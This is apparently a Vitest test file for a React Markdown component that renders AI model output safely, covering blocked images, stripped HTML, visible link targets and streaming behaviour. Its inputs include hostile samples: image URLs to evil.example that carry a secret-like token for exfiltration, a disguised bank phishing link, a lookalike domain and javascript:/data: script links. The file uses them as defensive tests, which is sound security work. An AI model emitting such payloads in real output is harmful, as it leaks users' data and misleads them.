import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const render = (markdown: string) => renderToStaticMarkup(<Markdown>{markdown}</Markdown>);
/** The text a reader sees, tags removed. */
const text = (html: string) => html.replace(/<[^>]+>/g, "").replace(/&amp;/g, "&");

describe("Markdown from the model", () => {
  it("never loads an image: it shows the alt text and the address instead", () => {
    const html = render("Your summary ![quarterly chart](https://evil.example/x.png?d=PURPLE-OTTER-42&u=alice) is ready.");
    expect(html).not.toContain("<img");
    expect(text(html)).toContain("[image: quarterly chart] (https://evil.example/x.png?d=PURPLE-OTTER-42&u=alice)");
  });

  it("does not load same-origin, relative, reference-style or data: images either", () => {
    const html = render(
      [
        "![logout](/auth/logout)",
        "![](https://127.0.0.1:9/leak)",
        "![ref][pic]",
        "![pixel](data:image/png;base64,iVBORw0KGgo=)",
        "",
        "[pic]: http://evil.example/ref.gif",
      ].join("\n"),
    );
    expect(html).not.toContain("<img");
    expect(text(html)).toContain("[image: logout] (/auth/logout)");
    expect(text(html)).toContain("[image] (https://127.0.0.1:9/leak)");
    expect(text(html)).toContain("[image: ref] (http://evil.example/ref.gif)");
    // urlTransform blanks data: URLs, so only the alt text is left.
    expect(text(html)).toContain("[image: pixel]");
    expect(html).not.toContain("data:image");
  });

  it("renders raw HTML as nothing that loads", () => {
    const html = render('<img src="https://evil.example/raw.png"> <iframe src="https://evil.example"></iframe>');
    expect(html).not.toMatch(/<img|<iframe/);
  });

  it("shows where a link goes when its text says something else, and opens it without opener or referrer", () => {
    const html = render("See [your bank](https://evil.example/login?next=bank) for details.");
    expect(html).toContain('href="https://evil.example/login?next=bank"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(text(html)).toContain("your bank (https://evil.example/login?next=bank)");
  });

  it("does not repeat an address the link text already shows", () => {
    for (const markdown of ["https://example.com/docs", "<https://example.com/docs>", "[example.com/docs](https://example.com/docs/)", "www.example.com"]) {
      const html = render(markdown);
      expect(html, markdown).toMatch(/<a href="https?:\/\/(www\.)?example\.com/);
      expect(html, markdown).not.toContain("(http");
    }
  });

  it("a lookalike link text does not hide the real address", () => {
    const html = render("[https://bank.example](https://bank.example.evil.example)");
    expect(text(html)).toContain("https://bank.example (https://bank.example.evil.example)");
  });

  it("javascript: and data: links are not clickable", () => {
    const html = render("[click me](javascript:alert(document.cookie)) and [open](data:text/html,<script>alert(1)</script>)");
    expect(html).not.toContain("<a");
    expect(html).not.toMatch(/javascript:|data:text/);
    expect(text(html)).toContain("click me");
    expect(text(html)).toContain("open");
  });

  it("keeps ordinary Markdown: emphasis, lists, code, tables, non-ASCII", () => {
    const html = render("**Café** (2 × 3.5)\n\n- one\n- two\n\n`x < y`\n\n| a | b |\n| - | - |\n| 1 | 2 |");
    expect(html).toContain("<strong>Café</strong> (2 × 3.5)");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<code>x &lt; y</code>");
    expect(html).toContain("<table");
  });
});

describe("Markdown while it streams", () => {
  it("shows unclosed emphasis and inline code as they will look, not as stray markers", () => {
    expect(render("The total is **€42")).toContain("<strong>€42</strong>");
    expect(render("Run `npm test")).toContain("<code>npm test</code>");
  });

  it("shows half a link as its text only, with nothing to follow yet", () => {
    const html = render("Details are on [the status page](https://status.exa");
    expect(html).not.toContain("<a");
    expect(text(html)).toContain("Details are on the status page");
  });

  it("shows half an image as its alt text, loading nothing", () => {
    const html = render("Here: ![chart](https://evil.example/x.pn");
    expect(html).not.toContain("<img");
    expect(text(html)).toContain("[image: chart]");
  });

  it("renders an unclosed code fence as a code block already, with every prefix of the answer a block too", () => {
    const answer = "Try this:\n\n```ts\nconst total = price * quantity;\n```\n\nDone.";
    for (let end = answer.indexOf("```ts\n") + 6; end <= answer.length; end++) {
      const html = render(answer.slice(0, end));
      expect(html, answer.slice(0, end)).toContain('aria-label="Code (ts)"');
    }
  });

  it("shows a table from its header row on, instead of a paragraph of pipes that later jumps into a table", () => {
    for (const partial of ["Orders:\n\n| Product | Qua", "Orders:\n\n| Product | Quantity |\n| --- | -", "Orders:\n\n| Product | Quantity |\n| --- | --- |\n| Widget | 2"]) {
      const html = render(partial);
      expect(html, partial).toContain("<table");
      expect(text(html), partial).not.toContain("|");
    }
  });

  it("leaves pipes inside a code block, and a table's alignment, as written", () => {
    expect(render("```\n| a | b |")).not.toContain("<table");
    expect(render("| a | b |\n| :-- | --: |\n| 1 | 2 |")).toContain('<td class="text-right">2</td>');
  });
});

describe("code blocks", () => {
  const block = "```python\ndef total(price, quantity):\n    return price * quantity\n```";

  it("are highlighted with classes, not inline styles the nonce-only style-src would refuse", () => {
    const html = render(block) + render("| a | b |\n| :-: | --: |\n| 1 | 2 |");
    expect(html).toContain('class="hljs language-python"');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).not.toContain(" style=");
  });

  it("have a copy button with an accessible name and say their language", () => {
    const html = render(block);
    expect(html).toMatch(/<button type="button"[^>]*>Copy code<\/button>/);
    expect(html).toContain('aria-label="Code (python)"');
  });

  it("keep code in an unknown or no language readable, as plain text", () => {
    for (const markdown of ["```klingon\nqapla'\n```", "```\nplain <b>text</b>\n```"]) {
      const html = render(markdown);
      expect(html, markdown).toMatch(/Copy code/);
      expect(text(html).replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&#x27;/g, "'"), markdown).toMatch(/qapla'|plain <b>text<\/b>/);
      expect(html, markdown).not.toContain("<b>");
    }
  });

  it("scroll inside their own box, as do tables", () => {
    expect(render(block)).toMatch(/<pre tabindex="0" class="overflow-x-auto/);
    expect(render("| Product | Total |\n| - | - |\n| Widget | 9.99 |")).toMatch(/<div role="region" aria-label="Table: Product, Total" tabindex="0" class="[^"]*overflow-x-auto/);
  });
});
